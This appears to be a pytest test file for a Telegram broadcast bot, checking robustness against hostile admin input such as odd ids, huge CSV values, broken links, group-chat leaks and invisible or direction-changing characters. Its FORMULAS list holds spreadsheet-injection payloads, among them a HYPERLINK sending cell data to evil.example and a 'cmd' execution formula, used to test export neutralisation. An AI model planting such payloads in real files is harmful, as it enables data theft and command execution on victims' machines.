"""Hostile and odd input: every admin input is answered, nothing leaks, nothing crashes."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.callbacks import PeopleAction, PeopleCb
from bot.parsing.buttons import ButtonError, parse_buttons
from bot.parsing.people_csv import RowProblem, parse_people_csv
from db.models import Stream
from tests.emulator import Emulator
from tests.harness import ADMIN_ID, STUDENT_ID, Harness, button_data, make_config, running

ODD_IDS = ["--5", "²", "99999999999999999999", "-5", "٣٤", "1_000", "+7", "0", "00"]


# ----- ids typed into searches ------------------------------------------------------------


@pytest.mark.parametrize("query", ODD_IDS)
async def test_users_search_with_odd_numbers_answers(herald: Harness, query: str) -> None:
    reply = await herald.say(ADMIN_ID, f"/users {query}")
    assert f"Nobody matches «{query}»" in reply["text"]


@pytest.mark.parametrize("query", ODD_IDS)
async def test_recipient_search_with_odd_numbers_answers(herald: Harness, query: str) -> None:
    await herald.say(ADMIN_ID, "/send")
    await herald.say(ADMIN_ID, "Hello")
    await herald.press("Skip")
    before = herald.count(ADMIN_ID)
    reply = await herald.say(ADMIN_ID, query)
    assert herald.count(ADMIN_ID) == before + 1
    assert f"Nobody matches «{query}»" in reply["text"]


async def test_a_plain_id_still_finds_the_person(herald: Harness) -> None:
    await herald.enroll([STUDENT_ID])
    reply = await herald.say(ADMIN_ID, f"/users {STUDENT_ID}")
    assert f"«{STUDENT_ID}»: 1 person found" in reply["text"]


# ----- CSV import and export --------------------------------------------------------------


def test_csv_id_beyond_64_bits_is_a_bad_row() -> None:
    parsed = parse_people_csv(
        b"user_id,stream\n99999999999999999999,\n\xc2\xb2,\n7,\n18446744073709551617,\n"
    )
    assert [row.user_id for row in parsed.rows] == [7]
    assert [(p.line, p.problem) for p in parsed.problems] == [
        (2, RowProblem.BAD_ID),
        (3, RowProblem.BAD_ID),
        (5, RowProblem.BAD_ID),
    ]


async def test_import_dry_run_reports_a_huge_id_with_its_line(herald: Harness) -> None:
    content = b"user_id,stream\n5,3rd_stream\n99999999999999999999,3rd_stream\n"
    await herald.feed(herald.emulator.user_document(ADMIN_ID, "people.csv", content))
    report = herald.last(ADMIN_ID)["text"]
    assert "Line 3: user_id «99999999999999999999» is not a Telegram id" in report


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB",
    "\rCR",
]


def _rows(document: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(document.decode("utf-8-sig"))))


@pytest.mark.parametrize("name", FORMULAS)
async def test_exports_neutralise_formulas(herald: Harness, name: str) -> None:
    herald.emulator.add_user(7001, first_name=name, last_name=name, username="evil_user")
    await herald.enroll([7001], "3rd_stream")
    await herald.say(ADMIN_ID, "/users")
    await herald.press("Export CSV")
    people = _rows(herald.emulator.files[herald.last(ADMIN_ID)["document"]["file_id"]])
    (row,) = people
    assert row["user_id"] == "7001"
    assert row["first_name"] == "'" + name and row["last_name"] == "'" + name

    await herald.say(ADMIN_ID, "/send")
    await herald.say(ADMIN_ID, "Hi")
    await herald.press("Skip")
    await herald.press("3-й поток")
    await herald.press("Done")
    await herald.press("Send now")
    await herald.press("Yes, send")
    await herald.deliveries_done()
    await herald.say(ADMIN_ID, "/history")
    await herald.press("#1")
    await herald.press("Export CSV")
    recipients = _rows(herald.emulator.files[herald.last(ADMIN_ID)["document"]["file_id"]])
    (row,) = recipients
    assert row["user_id"] == "7001" and row["telegram_message_id"].isdigit()
    assert row["first_name"] == "'" + name


# ----- long input -------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["/timezone", "/users"])
async def test_long_arguments_are_shortened_in_replies(herald: Harness, command: str) -> None:
    before = herald.count(ADMIN_ID)
    reply = await herald.say(ADMIN_ID, f"{command} {'x' * 4000}")
    assert herald.count(ADMIN_ID) == before + 1
    assert len(reply["text"]) < 1000
    assert "x" * 40 + "…" in reply["text"]


# ----- button lines -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "Open - http://[::1",
        "Open - tg:x",
        "Open - http://a.b:99999",
        "Open - http://a.b:port",
        "Open - https://",
        "Open - https://exa mple.org",
        "Open - javascript:alert(1)",
        "Open - https://" + "a" * 3000 + ".org",
    ],
)
def test_broken_links_are_refused_by_the_parser(line: str) -> None:
    with pytest.raises(ButtonError) as info:
        parse_buttons(line)
    assert info.value.line == 1


@pytest.mark.parametrize(
    "url", ["https://example.org/a?b=c#d", "http://t.me/x", "tg://resolve?domain=x"]
)
def test_good_links_pass(url: str) -> None:
    ((button,),) = parse_buttons(f"Open - {url}")
    assert button.url == url


async def test_broken_link_gets_a_line_number(herald: Harness) -> None:
    await herald.say(ADMIN_ID, "/send")
    await herald.say(ADMIN_ID, "Hello")
    for line in ("Open - http://[::1", "Open - tg:x", "Open - http://a.b:99999"):
        reply = await herald.say(ADMIN_ID, line)
        assert reply["text"].startswith("Line 1: "), reply["text"]


# ----- group chats ------------------------------------------------------------------------

GROUP = -100500


async def test_admin_commands_in_a_group_show_no_data(herald: Harness) -> None:
    herald.emulator.add_user(7001, first_name="Secret", last_name="Student")
    await herald.enroll([7001], "3rd_stream")
    herald.emulator.add_group(GROUP)
    commands = [
        "/users Secret",
        "/history",
        "/stats",
        "/streams@herald_test_bot",
        "/send",
        "/start",
    ]
    for command in commands:
        await herald.feed(herald.emulator.group_message(ADMIN_ID, GROUP, command))
    answers = herald.emulator.bot_messages(GROUP)
    assert len(answers) == len(commands)
    for answer in answers:
        assert answer["text"] == "Open a private chat with me to manage broadcasts."
        assert "reply_markup" not in answer
    for quiet in ("/users@other_bot", "Secret"):
        await herald.feed(herald.emulator.group_message(ADMIN_ID, GROUP, quiet))
    for anything in ("/users", "/start", "hello"):
        await herald.feed(herald.emulator.group_message(7001, GROUP, anything))
    assert len(herald.emulator.bot_messages(GROUP)) == len(commands)
    assert herald.emulator.bot_messages(ADMIN_ID) == []


async def test_buttons_in_a_group_show_no_data(herald: Harness) -> None:
    overview = await herald.say(ADMIN_ID, "/streams")
    herald.emulator.add_group(GROUP)
    await herald.feed(
        herald.emulator.group_callback(ADMIN_ID, GROUP, 1, button_data(overview, "Add stream"))
    )
    answer = herald.emulator.callback_answers[-1]
    assert answer["text"] == "Open a private chat with me to manage broadcasts."
    assert herald.emulator.bot_messages(GROUP) == []


# ----- escaping ---------------------------------------------------------------------------


async def test_stream_titles_with_markup_are_shown_as_typed(herald: Harness) -> None:
    title = "<i>5</i> & co"
    overview = await herald.say(ADMIN_ID, "/streams")
    await herald.tap(ADMIN_ID, overview, button_data(overview, "Add stream"))
    await herald.say(ADMIN_ID, "fifth")
    added = await herald.say(ADMIN_ID, title)
    assert f"«{title}»" in added["text"]
    overview = await herald.say(ADMIN_ID, "/streams")
    assert title in overview["text"]
    await herald.tap(ADMIN_ID, overview, button_data(overview, "Rename <i>5</i> & co"))
    renamed = await herald.say(ADMIN_ID, "<b>Five</b> & more")
    assert "«<b>Five</b> & more»" in renamed["text"]
    async with herald.sessions() as session:
        titles = set((await session.scalars(select(Stream.title))).all())
    assert "<b>Five</b> & more" in titles


# ----- empty-looking messages -------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [" ", "\u200b", "\u200b\u200d\u2060 \u3164", "\u2800", "\ufeff\n\t"]
)
async def test_invisible_text_is_not_a_message(herald: Harness, text: str) -> None:
    await herald.say(ADMIN_ID, "/send")
    reply = await herald.say(ADMIN_ID, text)
    assert reply["text"].startswith("There is nothing to read in this message")
    reply = await herald.say(ADMIN_ID, "Visible")
    assert reply["text"].startswith("Buttons (2/4)")


# ----- database file ----------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.sqlite_only
async def test_database_file_is_private(emulator: Emulator, db_path: Path) -> None:
    async with running(make_config(db_path), emulator) as herald:
        await herald.say(STUDENT_ID, "/start")
        files = [db_path, db_path.with_name(db_path.name + "-wal")]
        for path in files:
            assert path.exists(), path
            assert _mode(path) == 0o600, (path, oct(_mode(path)))


@pytest.mark.sqlite_only
@pytest.mark.parametrize(("before", "after"), [(0o644, 0o600), (0o600, 0o600), (0o640, 0o600)])
async def test_existing_database_file_is_tightened(
    tmp_path: Path, emulator: Emulator, before: int, after: int
) -> None:
    db_path = tmp_path / "old.db"
    db_path.touch()
    db_path.chmod(before)
    async with running(make_config(db_path), emulator) as herald:
        await herald.say(STUDENT_ID, "/start")
    assert _mode(db_path) == after


# ----- invisible and direction-changing characters ------------------------------------------


async def test_invisible_stream_titles_and_button_labels_are_refused(herald: Harness) -> None:
    overview = await herald.say(ADMIN_ID, "/streams")
    await herald.tap(ADMIN_ID, overview, button_data(overview, "Add stream"))
    await herald.say(ADMIN_ID, "blank")
    reply = await herald.say(ADMIN_ID, "\u200b\u3164")
    assert reply["text"].startswith("The title must be 1-64 characters, at least one of them")
    await herald.say(ADMIN_ID, "/cancel")
    await herald.say(ADMIN_ID, "/send")
    await herald.say(ADMIN_ID, "Hello")
    reply = await herald.say(ADMIN_ID, "\u200b - https://example.org")
    assert reply["text"].startswith("Line 1: the label is empty")


async def test_names_cannot_turn_a_line_around(herald: Harness) -> None:
    herald.emulator.add_user(7001, first_name="Eve\u202eLOG", last_name="\u2066x\u2069")
    await herald.enroll([7001], "3rd_stream")
    found = await herald.say(ADMIN_ID, "/users Eve")
    await herald.tap(ADMIN_ID, found, button_data(found, "Eve"))
    card = herald.last(ADMIN_ID)
    assert card["text"].startswith("EveLOG x")
    assert not any(ch in card["text"] for ch in "\u202e\u2066\u2069")


async def test_an_album_gets_one_answer(herald: Harness) -> None:
    photo = [{"file_id": "P1", "file_unique_id": "p1", "width": 9, "height": 9}]
    await herald.say(ADMIN_ID, "/send")
    before = herald.count(ADMIN_ID)
    for _ in range(4):
        await herald.say(ADMIN_ID, photo=photo, media_group_id="album-1")
    assert herald.count(ADMIN_ID) == before + 1
    assert herald.last(ADMIN_ID)["text"].startswith("I can't broadcast this kind of message")
    await herald.enroll([STUDENT_ID])
    before = herald.count(STUDENT_ID)
    for _ in range(3):
        await herald.say(STUDENT_ID, photo=photo, media_group_id="album-2")
    assert herald.count(STUDENT_ID) == before + 1


async def test_forged_taps_on_people_and_streams_are_answered(herald: Harness) -> None:
    await herald.enroll([STUDENT_ID], "3rd_stream")
    menu = await herald.say(ADMIN_ID, "/start")
    for data in (
        PeopleCb(PeopleAction.CARD, 424242).pack(),
        PeopleCb(PeopleAction.MOVE, STUDENT_ID, 999).pack(),
        "l:0:9999999999999999",
        "d:fpg:1:9999999999999999",
        "h:ls:a:" + "s1" * 20 + ":0:0",
    ):
        answers = len(herald.emulator.callback_answers)
        await herald.tap(ADMIN_ID, menu, data)
        assert len(herald.emulator.callback_answers) == answers + 1, data


async def test_a_csv_cell_beyond_the_reader_limit_is_a_file_problem(herald: Harness) -> None:
    content = b'user_id,stream\n5,3rd_stream\n6,"' + b"a" * 200_000 + b'"\n'
    await herald.feed(herald.emulator.user_document(ADMIN_ID, "people.csv", content))
    assert herald.last(ADMIN_ID)["text"] == (
        "The file is not a CSV I can read (line 3: a cell too large or broken quoting). "
        "Save it as CSV again and send it."
    )
